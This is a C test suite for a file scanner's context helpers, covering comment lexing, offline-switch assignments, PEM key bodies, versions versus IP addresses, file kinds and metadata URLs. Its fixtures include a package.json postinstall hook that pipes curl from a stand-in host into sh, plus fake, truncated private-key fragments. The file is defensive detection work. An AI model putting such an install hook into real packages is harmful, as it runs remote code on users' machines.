/* Check suite for scan_ctx: file kinds, the comment lexer, off-switch assignments, PEM bodies,
 * versions and netmasks. Each table holds what a reviewer would say about the line, including
 * the near misses (reads, comparisons, URLs that look like comments). PEM lines are split
 * ("PRIVATE" " KEY") so the source itself holds no key-looking text. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "scan_ctx.h"
#include "testutil.h"

static const uint8_t *U(const char *s)
{
	return (const uint8_t *)s;
}

/* Offset of the first '@' in @s, which is then read as the byte after it ("@" marks a spot
 * without changing what the lexer sees: it is replaced by a space in a copy). */
static bool commented(vf_lang lang, const char *s)
{
	char buf[512];
	const char *at = strchr(s, '@');
	vf_lexer lx;
	size_t off;

	ck_assert_ptr_nonnull(at);
	ck_assert_uint_lt(strlen(s), sizeof(buf));
	strcpy(buf, s);
	off = (size_t)(at - s);
	buf[off] = 'x';
	vf_lexer_init(&lx, lang);
	return vf_lexer_in_comment(&lx, U(buf), strlen(buf), off);
}

START_TEST(lexer_knows_each_comment_syntax)
{
	static const struct {
		vf_lang lang;
		const char *text;
		bool in;
	} t[] = {
	    {VF_LANG_HASH, "#DNS=@8.8.8.8\n", true},
	    {VF_LANG_HASH, "upstreams: []\n#   - @8.8.8.8\n", true},
	    {VF_LANG_HASH, "dns: @8.8.8.8 # primary\n", false},
	    {VF_LANG_HASH, "dns: 8.8.8.8 # was @1.1.1.1\n", true},
	    {VF_LANG_HASH, "url: \"http://x/#frag @\"\n", false},
	    {VF_LANG_HASH, "echo a#b @\n", false},
	    {VF_LANG_HASH, "#!/bin/sh\ncurl @x\n", false},
	    {VF_LANG_HASH, "# c\nlive @\n", false},
	    {VF_LANG_INI, "[Resolve]\n;DNS=@8.8.8.8\n", true},
	    {VF_LANG_INI, "DNS=@8.8.8.8 # not a comment in systemd\n", false},
	    {VF_LANG_HASHLINE, "  # @x\n", true},
	    {VF_LANG_HASHLINE, "a # @x\n", false},
	    {VF_LANG_PY, "x = 1  # @http\n", true},
	    {VF_LANG_PY, "s = \"# not @\"\n", false},
	    {VF_LANG_PY, "def f():\n    \"\"\"Docs @here.\n    \"\"\"\n", true},
	    {VF_LANG_PY, "SQL = \"\"\"select @1\"\"\"\n", false},
	    {VF_LANG_PY, "\"\"\"a\"\"\"\nlive @\n", false},
	    {VF_LANG_PY, "s = 'it\\'s' # @c\n", true},
	    {VF_LANG_C, "// @https://x.io\n", true},
	    {VF_LANG_C, "u = \"https://@x.io\";\n", false},
	    {VF_LANG_C, "u = 'https://@x.io';\n", false},
	    {VF_LANG_C, "/*\n * see @x\n */\n", true},
	    {VF_LANG_C, "/* a */ live @\n", false},
	    {VF_LANG_C, "s = \"/*\"; live @\n", false},
	    {VF_LANG_C, "t = `a\n// @b`;\n", false},
	    {VF_LANG_C, "x(); // @\ny(); @\n", true},
	    {VF_LANG_NONE, "# @x\n", false},
	};

	for (size_t i = 0; i < sizeof(t) / sizeof(*t); i++)
		ck_assert_msg(commented(t[i].lang, t[i].text) == t[i].in, "case %zu: %s", i,
			      t[i].text);
}
END_TEST

START_TEST(lexer_advances_once_and_stays_in_bounds)
{
	/* Offsets in increasing order over one buffer give the same answers as fresh lexers. */
	const char *s = "a // b\n/* c\n d */ e \"f // g\" h\n";
	size_t n = strlen(s);
	vf_lexer lx, fresh;

	vf_lexer_init(&lx, VF_LANG_C);
	for (size_t off = 0; off < n; off++) {
		vf_lexer_init(&fresh, VF_LANG_C);
		ck_assert_msg(vf_lexer_in_comment(&lx, U(s), n, off) ==
				  vf_lexer_in_comment(&fresh, U(s), n, off),
			      "offset %zu", off);
	}
	/* Past the end: not a comment, nothing read. */
	ck_assert(!vf_lexer_in_comment(&lx, U(s), n, n + 5));
	/* Unterminated constructs at the very end. */
	vf_lexer_init(&lx, VF_LANG_PY);
	ck_assert(!vf_lexer_in_comment(&lx, U("\"\""), 2, 1));
	vf_lexer_init(&lx, VF_LANG_C);
	ck_assert(vf_lexer_in_comment(&lx, U("/*/"), 3, 2));
}
END_TEST

static bool set_at(const char *s)
{
	const char *m = strstr(s, "HF_HUB_OFFLINE");

	ck_assert_ptr_nonnull(m);
	return vf_switch_is_set(U(s), strlen(s), (size_t)(m - s),
				(size_t)(m - s) + strlen("HF_HUB_OFFLINE"));
}

START_TEST(switch_set_not_read)
{
	static const char *const set[] = {
	    "HF_HUB_OFFLINE=1\n",
	    "export HF_HUB_OFFLINE=1\n",
	    "ENV HF_HUB_OFFLINE 1\n",
	    "ENV HF_HUB_OFFLINE=1\n",
	    "  HF_HUB_OFFLINE: \"1\"\n",
	    "os.environ[\"HF_HUB_OFFLINE\"] = \"1\"\n",
	    "os.environ['HF_HUB_OFFLINE']='1'\n",
	    "os.environ.setdefault(\"HF_HUB_OFFLINE\", \"1\")\n",
	    "process.env.HF_HUB_OFFLINE = \"1\";\n",
	    "{\"HF_HUB_OFFLINE\": true}\n",
	    "  - name: HF_HUB_OFFLINE\n    value: \"1\"\n",
	    "  - name: \"HF_HUB_OFFLINE\"\r\n    value: 1\n",
	};
	static const char *const not_set[] = {
	    "os.environ.get(\"HF_HUB_OFFLINE\")\n",
	    "os.environ.get(\"HF_HUB_OFFLINE\", \"1\")\n",
	    "os.getenv(\"HF_HUB_OFFLINE\") == \"1\"\n",
	    "if [ \"$HF_HUB_OFFLINE\" = 1 ]; then\n",
	    "echo ${HF_HUB_OFFLINE}\n",
	    "process.env.HF_HUB_OFFLINE === \"1\"\n",
	    "x.HF_HUB_OFFLINE != 1\n",
	    "HF_HUB_OFFLINE = os.environ.get(\"X\")\n",
	    "HF_HUB_OFFLINE=\n",
	    "MY_HF_HUB_OFFLINE=1\n",
	    "HF_HUB_OFFLINE_X=1\n",
	    "see HF_HUB_OFFLINE in the docs\n",
	    "  - name: HF_HUB_OFFLINE\n    valueFrom: {}\n",
	    "HF_HUB_OFFLINE",
	    "HF_HUB_OFFLINE=\"1",
	};

	for (size_t i = 0; i < sizeof(set) / sizeof(*set); i++)
		ck_assert_msg(set_at(set[i]), "should count as set: %s", set[i]);
	for (size_t i = 0; i < sizeof(not_set) / sizeof(*not_set); i++)
		ck_assert_msg(!set_at(not_set[i]), "should not count: %s", not_set[i]);
}
END_TEST

static bool body_after(const char *s)
{
	const char *m = strstr(s, "KEY-----");

	ck_assert_ptr_nonnull(m);
	return vf_pem_has_body(U(s), strlen(s), (size_t)(m - s) + 8);
}

START_TEST(pem_needs_a_body)
{
	ck_assert(body_after("-----BEGIN RSA PRIVATE"
			     " KEY-----\nMIIEpAIBAAKCAQEAvWkq\n"));
	ck_assert(body_after("-----BEGIN PRIVATE"
			     " KEY-----\r\nMIIEvQIBADANBgkqhkiG\r\n"));
	ck_assert(body_after("# -----BEGIN PRIVATE"
			     " KEY-----\n# MIIEvQIBADANBgkqhkiG\n"));
	ck_assert(body_after("\"-----BEGIN PRIVATE"
			     " KEY-----\\nMIIEvQIBADANBgkqhkiG\\n\""));
	ck_assert(body_after("k = '-----BEGIN PRIVATE"
			     " KEY-----' +\n  'MIIEvQIBADANBgkqhkiG'\n"));
	ck_assert(body_after("-----BEGIN RSA PRIVATE"
			     " KEY-----\nProc-Type: 4,ENCRYPTED\n"
			     "DEK-Info: AES-128-CBC,00\n\nMIIEpAIBAAKCAQEAvWkq\n"));
	ck_assert(body_after("  '-----BEGIN RSA PRIVATE"
			     " KEY-----'#10+\n    'MIIEowIBAAKCAQEAvfTd'#10+\n"));
	ck_assert(body_after("k := `-----BEGIN PRIVATE"
			     " KEY-----\nMIIEvQIBADANBgkqhkiG\n`\n"));
	ck_assert(!body_after("## -----BEGIN RSA PRIVATE"
			      " KEY-----\n"));
	ck_assert(!body_after("## -----BEGIN RSA PRIVATE"
			      " KEY-----\n## -----END RSA PRIVATE "
			      "KEY-----\n"));
	ck_assert(!body_after("if line == \"-----BEGIN PRIVATE"
			      " KEY-----\":\n    start()\n"));
	ck_assert(!body_after("-----BEGIN PRIVATE"
			      " KEY-----\n...\n"));
	ck_assert(!body_after("-----BEGIN PRIVATE"
			      " KEY-----\nshort\n"));
	ck_assert(!body_after("-----BEGIN PRIVATE"
			      " KEY-----"));
}
END_TEST

static bool version_at(const char *s, bool changelog)
{
	const char *d = strpbrk(s, "0123456789");
	size_t z = strspn(d, "0123456789.");

	return vf_ipv4_is_version(U(s), strlen(s), (size_t)(d - s), (size_t)(d - s) + z, changelog);
}

START_TEST(versions_and_netmasks)
{
	static const char *const versions[] = {
	    "version 1.2.3.4", "Version: 1.2.3.4",    "version=\"1.2.3.4\"", "ver 1.2.3.4",
	    "v 1.2.3.4",       "release 4.3.2.1",     "1.2.3.4-beta",	     "1.2.3.4~rc1",
	    "1.2.3.4+dfsg",    "Build: 10.0.19041.1",
	};
	static const char *const addresses[] = {
	    "peer 93.184.216.34",	"host=93.184.216.34",	   "93.184.216.34-93.184.216.40",
	    "conversion 93.184.216.34", "x_version 93.184.216.34", "server: 93.184.216.34",
	};
	struct {
		uint8_t a[4];
		bool not_dest;
	} m[] = {{{255, 255, 255, 0}, true},   {{255, 255, 0, 0}, true},
		 {{255, 255, 255, 252}, true}, {{255, 0, 0, 0}, true},
		 {{0, 9, 8, 0}, true},	       {{255, 255, 0, 255}, false},
		 {{8, 8, 8, 8}, false},	       {{254, 255, 255, 0}, false}};

	for (size_t i = 0; i < sizeof(versions) / sizeof(*versions); i++)
		ck_assert_msg(version_at(versions[i], false), "version: %s", versions[i]);
	for (size_t i = 0; i < sizeof(addresses) / sizeof(*addresses); i++)
		ck_assert_msg(!version_at(addresses[i], false), "address: %s", addresses[i]);
	ck_assert(version_at("## 1.2.7.3", true));
	for (size_t i = 0; i < sizeof(m) / sizeof(*m); i++) {
		uint8_t a[16] = {[10] = 0xff, [11] = 0xff};
		memcpy(a + 12, m[i].a, 4);
		ck_assert_msg(vf_ipv4_not_destination(a) == m[i].not_dest, "mask case %zu", i);
	}
}
END_TEST

START_TEST(file_kinds)
{
	static const struct {
		const char *base, *path, *head;
		vf_lang lang;
		bool doc, changelog, program, manifest;
	} t[] = {
	    {"README.md", "pkg/README.md", "", VF_LANG_NONE, true, false, false, false},
	    {"CHANGELOG", "pkg/CHANGELOG", "", VF_LANG_NONE, true, true, false, false},
	    {"changelog", "usr/share/doc/x/changelog", "", VF_LANG_NONE, true, true, false, false},
	    {"ls.1", "usr/share/man/man1/ls.1", "", VF_LANG_NONE, true, false, false, false},
	    {"x.mo", "usr/share/locale/de/LC_MESSAGES/x.mo", "", VF_LANG_NONE, true, false, false,
	     false},
	    {"notes.txt", "notes.txt", "", VF_LANG_HASHLINE, true, false, false, false},
	    {"requirements.txt", "requirements.txt", "", VF_LANG_HASHLINE, false, false, false,
	     false},
	    {"values.yaml", "c/values.yaml", "", VF_LANG_HASH, false, false, false, false},
	    {"resolved.conf", "etc/resolved.conf", "", VF_LANG_HASH, false, false, false, false},
	    {"x.service", "x.service", "", VF_LANG_INI, false, false, false, false},
	    {"app.py", "app.py", "", VF_LANG_PY, false, false, true, false},
	    {"index.js", "index.js", "", VF_LANG_C, false, false, true, false},
	    {"run", "bin/run", "#!/usr/bin/env python3\n", VF_LANG_PY, false, false, true, false},
	    {"run", "bin/run", "#!/bin/sh\n", VF_LANG_HASH, false, false, false, false},
	    {"run", "bin/run", "#!/usr/bin/env bash\n", VF_LANG_HASH, false, false, false, false},
	    {"tool", "bin/tool", "#!/usr/bin/node\n", VF_LANG_C, false, false, true, false},
	    {"package.json", "p/package.json", "", VF_LANG_NONE, false, false, false, true},
	    {"control", "x/DEBIAN/control", "", VF_LANG_HASHLINE, false, false, false, true},
	    {"templates", "x/DEBIAN/templates", "", VF_LANG_NONE, true, false, false, false},
	    {"LICENSE-MIT", "LICENSE-MIT", "", VF_LANG_NONE, true, false, false, false},
	    {"NEWS_2024", "NEWS_2024", "", VF_LANG_NONE, true, true, false, false},
	    {"history.js", "lib/history.js", "", VF_LANG_C, false, false, true, false},
	    {"changes.py", "changes.py", "", VF_LANG_PY, false, false, true, false},
	    {"support.sh", "support.sh", "", VF_LANG_HASH, false, false, false, false},
	    {"newsletter.txt", "newsletter.txt", "", VF_LANG_HASHLINE, true, false, false, false},
	    {"todos.yaml", "todos.yaml", "", VF_LANG_HASH, false, false, false, false},
	    {"npm-install.html", "npm/docs/output/commands/npm-install.html", "", VF_LANG_NONE,
	     true, false, false, false},
	    {"index.html", "app/public/index.html", "", VF_LANG_NONE, false, false, false, false},
	    {"conf.py", "pkg/docs/conf.py", "", VF_LANG_PY, false, false, true, false},
	    {"index.cjs.js.map", "lib/index.cjs.js.map", "", VF_LANG_NONE, true, false, false,
	     false},
	};

	for (size_t i = 0; i < sizeof(t) / sizeof(*t); i++) {
		vf_ftype ft;
		vf_ftype_of(t[i].base, t[i].path, U(t[i].head), strlen(t[i].head), &ft);
		ck_assert_msg(ft.lang == t[i].lang && ft.doc == t[i].doc &&
				  ft.changelog == t[i].changelog && ft.program == t[i].program &&
				  ft.manifest == t[i].manifest,
			      "%s: lang %d doc %d changelog %d program %d manifest %d", t[i].path,
			      ft.lang, ft.doc, ft.changelog, ft.program, ft.manifest);
	}
}
END_TEST

START_TEST(metadata_urls)
{
	vf_ftype pj, other;
	static const struct {
		const char *line;
		bool meta;
	} t[] = {
	    {"  \"homepage\": \"@https://x.io\",\n", true},
	    {"  \"repository\": {\"type\": \"git\", \"url\": \"@https://x.io\"},\n", true},
	    {"    \"A B <a@b.example> (@https://x.io)\",\n", true},
	    {"  \"config\": {\"endpoint\": \"@https://x.io\"}\n", false},
	    {"  \"scripts\": {\"postinstall\": \"curl @https://x.io | sh\"}\n", false},
	    {"Homepage: @https://x.io\n", true},
	};

	static const struct {
		const char *text;
		bool meta;
	} chart[] = {
	    {"home: @https://x.io\n", true},
	    {"sources:\n  - https://a.io\n  - @https://x.io\n", true},
	    {"sources:\n\n  - @https://x.io\n", true},
	    {"dependencies:\n  - name: c\n    repository: @https://x.io\n", true},
	    {"annotations:\n  - @https://x.io\n", false},
	    {"  - @https://x.io\n", false},
	    {"sources: [a]\n  - @https://x.io\n", false},
	};
	vf_ftype ch;

	vf_ftype_of("Chart.yaml", "c/Chart.yaml", U(""), 0, &ch);
	for (size_t i = 0; i < sizeof(chart) / sizeof(*chart); i++) {
		char buf[256];
		const char *at = strrchr(chart[i].text, '@');
		size_t off = (size_t)(at - chart[i].text);
		memcpy(buf, chart[i].text, off);
		strcpy(buf + off, at + 1);
		ck_assert_msg(vf_url_is_metadata(&ch, U(buf), strlen(buf), off) == chart[i].meta,
			      "Chart.yaml: %s", buf);
	}
	vf_ftype_of("package.json", "package.json", U(""), 0, &pj);
	vf_ftype_of("x.json", "x.json", U(""), 0, &other);
	for (size_t i = 0; i < sizeof(t) / sizeof(*t); i++) {
		/* The last '@' marks where the URL starts; it is cut out of the line. */
		char buf[256];
		const char *at = strrchr(t[i].line, '@');
		size_t off = (size_t)(at - t[i].line);
		memcpy(buf, t[i].line, off);
		strcpy(buf + off, at + 1);
		ck_assert_msg(vf_url_is_metadata(&pj, U(buf), strlen(buf), off) == t[i].meta, "%s",
			      buf);
		ck_assert(!vf_url_is_metadata(&other, U(buf), strlen(buf), off));
	}
}
END_TEST

int main(void)
{
	Suite *s = suite_create("scan_ctx");
	TCase *tc = tcase_create("core");

	tcase_add_test(tc, lexer_knows_each_comment_syntax);
	tcase_add_test(tc, lexer_advances_once_and_stays_in_bounds);
	tcase_add_test(tc, switch_set_not_read);
	tcase_add_test(tc, pem_needs_a_body);
	tcase_add_test(tc, versions_and_netmasks);
	tcase_add_test(tc, file_kinds);
	tcase_add_test(tc, metadata_urls);
	suite_add_tcase(s, tc);
	return tu_run(s);
}
